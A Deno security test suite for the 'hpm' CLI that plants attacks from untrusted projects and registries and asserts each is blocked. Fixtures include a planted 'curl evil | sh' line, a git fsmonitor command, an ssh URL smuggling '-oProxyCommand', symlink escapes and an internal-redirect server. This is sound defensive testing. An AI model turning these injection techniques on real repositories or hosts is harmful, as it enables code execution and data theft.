/**
 * A project cloned from a stranger, and any remote registry, are untrusted
 * (docs/security.md). Each test builds one attack of issue 7 for real (git
 * repositories, symbolic links, loopback servers), runs the real CLI with a
 * private HOME, and checks the attack is blocked: the exit code, nothing
 * outside the project changed (a sentinel folder and HOME are snapshotted), no
 * command ran (a marker file a command would create does not exist), and no
 * secret in the output. Where an attack would make a run endless (a file that
 * never ends, a server that never answers), the run's own words show what
 * stopped it, never a wall clock, which a loaded machine stretches.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { fileUrl, git, makeTempRoot, type RunResult, settle, writeFile } from "./_fixtures.ts";
import { FAST, hpm, journalOf, pushedRegistry } from "./_project.ts";

const SECRET = "SECRET-TOKEN-8d1f2c";
const REAL_HOME = Deno.env.get("HOME") ?? "/root";
// The private HOME must not move Deno's and uv's caches into it.
const DENO_DIR = Deno.env.get("DENO_DIR") ??
  join(Deno.env.get("XDG_CACHE_HOME") ?? join(REAL_HOME, ".cache"), "deno");

interface World {
  root: string;
  /** The project: hpm.yaml, pyproject.toml, a registry with `plug`. */
  dir: string;
  /** A private HOME holding a secret and a .bashrc. */
  home: string;
  /** Files outside the project that must never change. */
  sentinel: string;
  /** Where a command an attacker ran would leave its mark. */
  marker: string;
  env: Record<string, string>;
}

const PYPROJECT = '[project]\nname = "core"\nversion = "0.1.0"\nrequires-python = ">=3.9"\n';

function entry(extra = "", dev = "{type: local, path: ./packages/plug}"): string {
  return `name: plug\n${extra}sources:\n  dev: ${dev}\n  prod: {type: pypi, version: 1.0.0}\n`;
}

async function world(registry = "./hpm-registry"): Promise<World> {
  const root = await makeTempRoot();
  const dir = join(root, "core");
  const home = join(root, "home");
  const sentinel = join(root, "sentinel");
  await writeFile(join(home, "secret.txt"), `${SECRET}\n`);
  await writeFile(join(home, ".bashrc"), "# my shell\n");
  await writeFile(join(sentinel, "keep.txt"), "keep me\n");
  await writeFile(join(dir, "pyproject.toml"), PYPROJECT);
  await writeFile(
    join(dir, "hpm.yaml"),
    `registry: ${JSON.stringify(registry)}\ngroups:\n  plugins:\n    options: [plug]\n`,
  );
  await writeFile(join(dir, "hpm-registry", "packages", "plug.yaml"), entry());
  await writeFile(
    join(dir, "packages", "plug", "pyproject.toml"),
    '[project]\nname = "plug"\nversion = "1.0.0"\n',
  );
  return {
    root,
    dir,
    home,
    sentinel,
    marker: join(root, "MARKER"),
    env: {
      HOME: home,
      HPM_STATE_DIR: join(root, "state"),
      HPM_CACHE_DIR: join(root, "cache"),
      UV_CACHE_DIR: Deno.env.get("UV_CACHE_DIR") ?? join(REAL_HOME, ".cache", "uv"),
      DENO_DIR,
    },
  };
}

// Every file and link under `dir`, with its content or target.
async function tree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (d: string, rel: string) => {
    for await (const e of Deno.readDir(d)) {
      const path = join(d, e.name);
      const key = rel ? `${rel}/${e.name}` : e.name;
      if (e.isSymlink) out[key] = `-> ${await Deno.readLink(path)}`;
      else if (e.isDirectory) {
        out[key] = "<dir>";
        await walk(path, key);
      } else out[key] = await Deno.readTextFile(path);
    }
  };
  await walk(dir, "");
  return out;
}

async function outside(w: World): Promise<Record<string, Record<string, string>>> {
  return { home: await tree(w.home), sentinel: await tree(w.sentinel) };
}

async function exists(path: string): Promise<boolean> {
  return await Deno.lstat(path).then(() => true, () => false);
}

// Runs hpm and checks what every attack must leave true: it ended, nothing
// outside the project changed, nothing ran, no secret was shown.
async function attacked(w: World, args: string[], env: Record<string, string> = {}) {
  const before = await outside(w);
  const r = await hpm(args, w.dir, { ...w.env, ...env });
  assert.deepEqual(await outside(w), before, "nothing outside the project changed");
  assert.equal(await exists(w.marker), false, "no command of the attacker's ran");
  assert.ok(!(r.stdout + r.stderr).includes(SECRET), "no secret in the output");
  assert.ok(!/internal error/.test(r.stderr), `no internal error:\n${r.stderr}`);
  return r;
}

function expectCode(r: RunResult, code: number) {
  assert.equal(r.code, code, `exit ${r.code}\n${r.stderr}\n${r.stdout}`);
}

/** `reg`, a folder of registry files, made a git registry that `w`'s hpm.yaml names. */
async function onGitRegistry(w: World, reg: string): Promise<void> {
  const url = await pushedRegistry(reg, join(w.root, "reg.git"));
  await writeFile(
    join(w.dir, "hpm.yaml"),
    `registry: "${url}"\ngroups:\n  plugins:\n    options: [plug]\n`,
  );
}

async function cleanup(w: World) {
  await Deno.remove(w.root, { recursive: true });
}

Deno.test("1: a committed .hpm/ (a journal naming files outside the project, a lock) is never read, acted on or deleted", async () => {
  const w = await world();
  try {
    await writeFile(join(w.root, "outside.txt"), "outside\n");
    await Deno.symlink(w.home, join(w.dir, "evil"));
    // What earlier HPM builds kept in the project, as a stranger would commit it.
    const journal = join(w.dir, ".hpm", "journal");
    await writeFile(
      join(journal, "journal.json"),
      JSON.stringify({
        pid: 4194305,
        state: "applying",
        files: [
          { name: "evil/.bashrc", existed: true },
          { name: "../outside.txt", existed: false },
          { name: "pyproject.toml", existed: true },
        ],
      }),
    );
    await writeFile(join(journal, "evil", ".bashrc.before"), "curl evil | sh\n");
    await writeFile(join(journal, "pyproject.toml.before"), "[project]\nname = 'pwned'\n");
    await writeFile(join(w.dir, ".hpm", "lock"), JSON.stringify({ pid: 1 }));
    const planted = await tree(join(w.dir, ".hpm"));
    await git(["init", "-q", "-b", "main"], { cwd: w.dir });
    await git(["add", "-A"], { cwd: w.dir });
    await git(["commit", "-qm", "evil"], { cwd: w.dir });
    for (const args of [["diff"], ["status"]]) {
      const r = await attacked(w, args);
      expectCode(r, 0);
      assert.doesNotMatch(r.stderr, /journal|rolled back|ignored/, args.join(" "));
    }
    assert.equal(await Deno.readTextFile(join(w.root, "outside.txt")), "outside\n");
    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
    assert.equal(await Deno.readTextFile(join(w.home, ".bashrc")), "# my shell\n");
    assert.deepEqual(await tree(join(w.dir, ".hpm")), planted, "left as it is");
  } finally {
    await cleanup(w);
  }
});

Deno.test("2: a .hpm or .hpm/journal that is a link to another folder is not followed: nothing read, deleted or created there", async () => {
  for (const linked of [".hpm", ".hpm/journal"]) {
    const w = await world();
    try {
      if (linked === ".hpm/journal") await Deno.mkdir(join(w.dir, ".hpm"));
      await Deno.symlink(w.sentinel, join(w.dir, linked));
      for (const args of [["sync", "--no-install"], ["status"]]) {
        // attacked() checks that the sentinel folder is as it was.
        expectCode(await attacked(w, args), 0);
      }
      assert.ok((await Deno.lstat(join(w.dir, linked))).isSymlink, "left as it is");
    } finally {
      await cleanup(w);
    }
  }
});

Deno.test("3: a dev path laid out as a git repository with core.fsmonitor never runs its command", async () => {
  const w = await world();
  try {
    const evil = join(w.dir, "packages", "plug");
    await git(["init", "-q", "--bare", evil], { cwd: w.dir });
    const config = join(evil, "config");
    await Deno.writeTextFile(
      config,
      (await Deno.readTextFile(config)).replace("bare = true", "bare = false") +
        `\tworktree = .\n\tfsmonitor = "touch ${w.marker}; false"\n`,
    );
    // Reproduce: plain git run in that folder does run the command.
    await new Deno.Command("git", { args: ["status"], cwd: evil, stdout: "null", stderr: "null" })
      .output();
    assert.ok(await exists(w.marker), "the attack works against git without hardening");
    await Deno.remove(w.marker);

    const r = await attacked(w, ["status"]);
    expectCode(r, 0);
    const json = await attacked(w, ["status", "--json"]);
    const report = JSON.parse(json.stdout);
    assert.equal(report.packages[0].clone.git, false, "git was not run there");
  } finally {
    await cleanup(w);
  }
});

Deno.test("3: a registry's cached checkout can never be a dev path", async () => {
  const w = await world();
  try {
    const cached = join(w.env.HPM_CACHE_DIR, "registries", "0123456789abcdef", "plug");
    await writeFile(join(cached, "pyproject.toml"), '[project]\nname = "plug"\nversion = "1"\n');
    await writeFile(
      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
      entry("", `{type: local, path: "${cached}"}`),
    );
    for (const args of [["status"], ["sync", "--no-install"], ["clone"]]) {
      const r = await attacked(w, args);
      expectCode(r, 2);
      assert.match(r.stderr, /inside HPM's registry cache/);
    }
    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
  } finally {
    await cleanup(w);
  }
});

Deno.test("4: hpm clone does not write outside the project unless the user says yes", async () => {
  const w = await world();
  try {
    const source = join(w.root, "src-repo");
    await writeFile(join(source, "pyproject.toml"), '[project]\nname = "plug"\nversion = "1"\n');
    await git(["init", "-q", "-b", "main"], { cwd: source });
    await git(["add", "-A"], { cwd: source });
    await git(["commit", "-qm", "init"], { cwd: source });
    await Deno.remove(join(w.dir, "packages"), { recursive: true });
    for (const path of ["~/.config/autostart/plug", "../../somewhere/plug"]) {
      await writeFile(
        join(w.dir, "hpm-registry", "packages", "plug.yaml"),
        `name: plug\nsources:\n  dev: {type: local, path: "${path}"}\n` +
          `  prod: {type: git, url: "${fileUrl(source)}", ref: main}\n`,
      );
      const r = await attacked(w, ["clone"]);
      expectCode(r, 2);
      assert.match(r.stderr, /refusing to clone outside the project/);
      assert.match(r.stderr, /--yes/);
    }
    assert.equal(await exists(join(w.root, "..", "somewhere")), false);
    // A remote registry may not even name such a path.
    const remote = await world();
    try {
      const reg = join(remote.root, "reg");
      await writeFile(
        join(reg, "packages", "plug.yaml"),
        entry("", "{type: local, path: ../../x}"),
      );
      await onGitRegistry(remote, reg);
      const r = await attacked(remote, ["clone"]);
      expectCode(r, 2);
      assert.match(r.stderr, /comes from the remote registry .* leads outside the project/);
    } finally {
      await cleanup(remote);
    }
  } finally {
    await cleanup(w);
  }
});

Deno.test("5: a pyproject.toml or registry folder linked outside is neither printed nor copied", async () => {
  const w = await world();
  try {
    await Deno.remove(join(w.dir, "pyproject.toml"));
    await Deno.symlink(join(w.home, "secret.txt"), join(w.dir, "pyproject.toml"));
    for (const args of [["diff"], ["status"], ["sync", "--no-install"]]) {
      const r = await attacked(w, args);
      expectCode(r, 2);
      assert.match(r.stderr, /pyproject\.toml is a link to .*outside/);
    }
    assert.ok(
      (await Deno.lstat(join(w.dir, "pyproject.toml"))).isSymlink,
      "the link is still a link",
    );
  } finally {
    await cleanup(w);
  }
  // A git registry whose packages/ is a link to a folder outside its checkout.
  const r2 = await world();
  try {
    const secrets = join(r2.root, "secrets");
    await writeFile(join(secrets, "plug.yaml"), `name: plug\n${SECRET}: [\n`);
    const reg = join(r2.root, "reg");
    await Deno.mkdir(reg, { recursive: true });
    await Deno.symlink(secrets, join(reg, "packages"));
    await onGitRegistry(r2, reg);
    for (const args of [["registry", "list"], ["registry", "show", "plug"], ["diff"]]) {
      const r = await attacked(r2, args);
      expectCode(r, 2);
      assert.match(r.stderr, /its packages\/ at [0-9a-f]{7} is a link or a file, not a folder/);
    }
  } finally {
    await cleanup(r2);
  }
});

/** Serves `handler` on 127.0.0.1 until the test ends; counts requests. */
function serve(handler: (req: Request) => Response | Promise<Response>) {
  const seen: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
    seen.push(new URL(req.url).pathname);
    return handler(req);
  });
  return { url: `http://127.0.0.1:${server.addr.port}`, seen, close: () => server.shutdown() };
}

Deno.test("6: an https registry's redirect to another origin is not followed", async () => {
  const internal = serve(() => Response.json([SECRET.toLowerCase()]));
  const registry = serve(() => Response.redirect(`${internal.url}/index.json`, 302));
  const w = await world(registry.url);
  try {
    const r = await attacked(w, ["registry", "list"]);
    expectCode(r, 2);
    assert.match(r.stderr, /redirects to http:\/\/127\.0\.0\.1:\d+\/index\.json, outside/);
    assert.deepEqual(internal.seen, [], "the other origin was never asked");
    assert.ok(!(r.stdout + r.stderr).toLowerCase().includes(SECRET.toLowerCase()));
  } finally {
    await cleanup(w);
    await internal.close();
    await registry.close();
  }
});

// /dev/zero, and links, as POSIX systems have them.
const POSIX = Deno.build.os !== "windows";

Deno.test({
  name: "7: state and project files linked to /dev/zero are refused without reading them",
  ignore: !POSIX,
}, async () => {
  for (
    const file of [
      "hpm.yaml",
      "hpm.local.yaml",
      "pyproject.toml",
      ".hpm/lock",
      ".hpm/journal/journal.json",
      "the user's own journal",
    ]
  ) {
    const w = await world();
    try {
      const path = file.startsWith("the user's")
        ? await journalOf(w.dir, w.env)
        : join(w.dir, file);
      await Deno.mkdir(join(path, ".."), { recursive: true });
      await Deno.remove(path).catch(() => {});
      await Deno.symlink("/dev/zero", path);
      const r = await attacked(w, ["status"]);
      if (file.startsWith("the user's")) {
        // The journal's own folder is the user's: a link there is reported, never read.
        expectCode(r, 0);
        assert.match(r.stderr, /ignored .*\.journal: .*symbolic link/);
      } else if (file.startsWith(".hpm/")) {
        // Nothing in a project's .hpm/ is HPM's: a planted file means nothing.
        expectCode(r, 0);
        assert.ok((await Deno.lstat(path)).isSymlink, "left as it is");
      } else {
        expectCode(r, 2);
        assert.match(r.stderr, /outside|symbolic link|not a regular file/, file);
      }
    } finally {
      await cleanup(w);
    }
  }
});

Deno.test({
  name: "7: after a sync has left its fingerprint, a file linked to /dev/zero is still refused",
  ignore: !POSIX,
}, async () => {
  for (const file of ["hpm.yaml", "pyproject.toml", "hpm-registry/packages/plug.yaml"]) {
    const w = await world();
    try {
      expectCode(await hpm(["sync", "--no-install"], w.dir, w.env), 0);
      const path = join(w.dir, file);
      await Deno.remove(path);
      await Deno.symlink("/dev/zero", path);
      for (const args of [["sync", "--no-install"], ["check", "--pyproject-only"], ["diff"]]) {
        const r = await attacked(w, args);
        expectCode(r, 2);
        assert.match(r.stderr, /outside|symbolic link|not a regular file/, `${file}: refused`);
      }
    } finally {
      await cleanup(w);
    }
  }
});

Deno.test("8: a registry that trickles its answer, or a git server that never answers, is cut off at the deadline", async () => {
  const trickle = serve(() =>
    new Response(
      new ReadableStream({
        async pull(controller) {
          await new Promise((r) => setTimeout(r, 500));
          controller.enqueue(new TextEncoder().encode(" "));
        },
      }),
    )
  );
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const held: Deno.Conn[] = [];
  (async () => {
    for await (const conn of listener) held.push(conn);
  })().catch(() => {});
  try {
    for (const registry of [trickle.url, `git://127.0.0.1:${listener.addr.port}/reg.git`]) {
      const w = await world(registry);
      try {
        const r = await attacked(w, ["registry", "list"], { HPM_REGISTRY_TIMEOUT: "2" });
        expectCode(r, 1);
        // Said only once the deadline has passed: it, not an answer, stopped the run.
        assert.match(r.stderr, /cannot fetch registry .*no answer within HPM_REGISTRY_TIMEOUT=2 s/);
      } finally {
        await cleanup(w);
      }
    }
  } finally {
    await trickle.close();
    listener.close();
    for (const c of held) c.close();
  }
});

// A process's start time, and whether it runs, read in /proc.
Deno.test({
  name: "9: a journal never gets an unrelated process killed",
  ignore: Deno.build.os !== "linux",
}, async () => {
  const w = await world();
  const sleeper = new Deno.Command("sleep", { args: ["30"] }).spawn();
  try {
    const start = (await Deno.readTextFile(`/proc/${sleeper.pid}/stat`))
      .split(") ")[1].split(" ")[19];
    const journal = await journalOf(w.dir, w.env);
    // A journal of this user's (a sync's, lib/state/transaction.ts: a line of
    // JSON, then the saved copies, here none) whose uv has gone, and whose
    // pid now belongs to `sleep`.
    const record = (root: string) =>
      JSON.stringify({
        pid: 4194305,
        root,
        child: sleeper.pid,
        childStart: start,
        childProgram: "uv",
        state: "applying",
        files: [{ name: "uv.lock", existed: false }],
      }) + "\n";
    // Another project's (a hash-named journal is checked against its root): ignored.
    await writeFile(journal, record(w.root));
    const other = await attacked(w, ["diff"]);
    expectCode(other, 0);
    assert.match(other.stderr, /ignored .*not an hpm journal of this project/);
    // This project's: the files are restored, the process is left alone.
    await writeFile(journal, record(await Deno.realPath(w.dir)));
    const genuine = await attacked(w, ["diff"]);
    expectCode(genuine, 0);
    assert.match(genuine.stderr, /rolled back/);
    assert.equal(await exists(journal), false, "the journal is gone");
    const alive = await Deno.lstat(`/proc/${sleeper.pid}`).then(() => true, () => false);
    assert.ok(alive, "sleep is still running");
  } finally {
    sleeper.kill("SIGKILL");
    await sleeper.status;
    await cleanup(w);
  }
});

Deno.test("10: terminal escapes in registry fields are shown escaped", async () => {
  const w = await world();
  try {
    await writeFile(
      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
      entry('description: "\\e]0;pwned\\a\\e[2J\\e[31mred"\n'),
    );
    for (const args of [["registry", "list"], ["registry", "show", "plug"]]) {
      const r = await attacked(w, args);
      expectCode(r, 0);
      const raw = [...r.stdout + r.stderr].filter((c) => c === "\x1b" || c === "\x07");
      assert.deepEqual(raw, [], `${args}: no raw control characters`);
      assert.match(r.stdout, /\\u001b\]0;pwned/);
    }
  } finally {
    await cleanup(w);
  }
});

Deno.test("11: a planted lock does not block, a damaged journal gives no stack trace", async () => {
  const w = await world();
  try {
    const planted = JSON.stringify({ pid: 1 });
    await writeFile(join(w.dir, ".hpm", "lock"), planted);
    const r = await attacked(w, ["status"]);
    expectCode(r, 0);
    assert.doesNotMatch(r.stderr, /waiting for/, "not blocked");
    assert.equal(await Deno.readTextFile(join(w.dir, ".hpm", "lock")), planted, "left as it is");
    // Cut short (a disk that lost its tail): reported each time, nothing restored.
    await writeFile(await journalOf(w.dir, w.env), '{"pid": 12, "files": [');
    for (let i = 0; i < 2; i++) {
      const again = await attacked(w, ["status"]);
      expectCode(again, 0);
      assert.match(again.stderr, /ignored .*\.journal: it is not an hpm journal/);
    }
  } finally {
    await cleanup(w);
  }
});

Deno.test("12: the shared cache: a linked stamp is not written through, a future stamp does not freeze it, parallel runs all succeed", async () => {
  const w = await world();
  try {
    const reg = join(w.root, "reg");
    await writeFile(join(reg, "packages", "plug.yaml"), entry("description: first\n"));
    await onGitRegistry(w, reg);
    const runs = await Promise.all(
      Array.from({ length: 6 }, () => hpm(["registry", "list"], w.dir, w.env)),
    );
    for (const r of runs) expectCode(r, 0);
    const registries = join(w.env.HPM_CACHE_DIR, "registries");
    const stamp = [...Deno.readDirSync(registries)].find((e) => e.name.endsWith(".fetched"))!;
    const stampPath = join(registries, stamp.name);
    // A stamp that is a link: never written through, and not trusted.
    await Deno.remove(stampPath);
    await Deno.symlink(join(w.sentinel, "keep.txt"), stampPath);
    await writeFile(join(reg, "packages", "plug.yaml"), entry("description: second\n"));
    await git(["commit", "-qam", "second"], { cwd: reg });
    await git(["push", "-q", "origin", "main"], { cwd: reg });
    const relinked = await attacked(w, ["registry", "list"]);
    expectCode(relinked, 0);
    assert.match(relinked.stdout, /second/, "a linked stamp counts as never fetched");
    assert.equal((await Deno.lstat(stampPath)).isSymlink, false, "the link was replaced");
    // A stamp dated in the future does not keep a planted copy fresh forever.
    const future = new Date(Date.now() + 365 * 24 * 3600 * 1000);
    await Deno.utime(stampPath, future, future);
    await writeFile(join(reg, "packages", "plug.yaml"), entry("description: third\n"));
    await git(["commit", "-qam", "third"], { cwd: reg });
    await git(["push", "-q", "origin", "main"], { cwd: reg });
    const refreshed = await attacked(w, ["registry", "list"]);
    expectCode(refreshed, 0);
    assert.match(refreshed.stdout, /third/);
  } finally {
    await cleanup(w);
  }
});

Deno.test("13: an ssh URL whose user part is an option is refused before git runs", async () => {
  const w = await world(`ssh://-oProxyCommand=touch%20MARKER@127.0.0.1/x.git`);
  try {
    const r = await attacked(w, ["registry", "list"]);
    expectCode(r, 2);
    assert.match(r.stderr, /git URLs must use/);
    await writeFile(
      join(w.dir, "hpm.yaml"),
      "registry: ./hpm-registry\ngroups:\n  plugins:\n    options: [plug]\n",
    );
    await writeFile(
      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
      'name: plug\nsources:\n  prod: {type: git, url: "ssh://-oProxyCommand=x@host/x.git", ref: v1}\n',
    );
    const entryRun = await attacked(w, ["diff", "--mode", "prod"]);
    expectCode(entryRun, 2);
  } finally {
    await cleanup(w);
  }
});

Deno.test("14: an oversized index.json is reported as too large", async () => {
  const big = serve(() => new Response("[" + '"a",'.repeat(600_000) + '"a"]'));
  const w = await world(big.url);
  try {
    const r = await attacked(w, ["registry", "list"]);
    expectCode(r, 2);
    assert.match(r.stderr, /is larger than \d+ bytes/);
    assert.ok(!/not valid JSON/.test(r.stderr));
  } finally {
    await cleanup(w);
    await big.close();
  }
});

// The planted git is a shell script made executable.
Deno.test({
  name: "15: HPM_GIT and HPM_UV must be absolute paths or command names",
  ignore: !POSIX,
}, async () => {
  const w = await world();
  try {
    await writeFile(join(w.dir, "packages", "plug", "git"), `#!/bin/sh\ntouch ${w.marker}\n`);
    await Deno.chmod(join(w.dir, "packages", "plug", "git"), 0o755);
    await Deno.mkdir(join(w.dir, "packages", "plug", ".git"));
    const r = await attacked(w, ["status"], { HPM_GIT: "./git" });
    expectCode(r, 2);
    assert.match(r.stderr, /HPM_GIT=\.\/git is a relative path/);
    const uv = await attacked(w, ["sync"], { HPM_UV: "bin/uv" });
    expectCode(uv, 2);
    assert.match(uv.stderr, /HPM_UV=bin\/uv is a relative path/);
    assert.equal(
      await Deno.readTextFile(join(w.dir, "pyproject.toml")),
      PYPROJECT,
      "nothing written",
    );
  } finally {
    await cleanup(w);
  }
});

Deno.test("16: an entry that is a link inside its registry: an edit of its target is seen after a sync recorded it", async () => {
  const w = await world();
  try {
    const env = { ...w.env, HPM_OFFLINE: "1" };
    const target = join(w.dir, "hpm-registry", "entries", "plug.yaml");
    await writeFile(target, entry());
    await Deno.remove(join(w.dir, "hpm-registry", "packages", "plug.yaml"));
    await Deno.symlink(
      "../entries/plug.yaml",
      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
    );
    await git(["init", "--quiet"], { cwd: w.dir });
    // Files older than the sync's second: their stats could vouch for them,
    // so the link's own must not.
    await settle();
    expectCode(await hpm(["sync", "--no-install", "--mode", "prod"], w.dir, env), 0);
    await git(["add", "pyproject.toml"], { cwd: w.dir });
    const pyproject = await Deno.readTextFile(join(w.dir, "pyproject.toml"));
    assert.match(pyproject, /"plug==1\.0\.0"/);
    const warm = await hpm(["-v", "check", "--mode", "prod", "--pyproject-only"], w.dir, env);
    expectCode(warm, 0);
    assert.match(warm.stderr, FAST, "the sync's record answers before the edit");

    await Deno.writeTextFile(target, entry().replace("version: 1.0.0", "version: 2.0.0"));
    const check = await attacked(w, ["check", "--mode", "prod", "--pyproject-only"], env);
    expectCode(check, 1);
    const staged = await attacked(w, ["check", "--staged"], env);
    expectCode(staged, 1);
    const diff = await attacked(w, ["diff", "--mode", "prod"], env);
    expectCode(diff, 0);
    assert.match(diff.stdout, /^\+.*"plug==2\.0\.0"/m);
    expectCode(await attacked(w, ["sync", "--no-install", "--mode", "prod"], env), 0);
    assert.match(await Deno.readTextFile(join(w.dir, "pyproject.toml")), /"plug==2\.0\.0"/);
  } finally {
    await cleanup(w);
  }
});
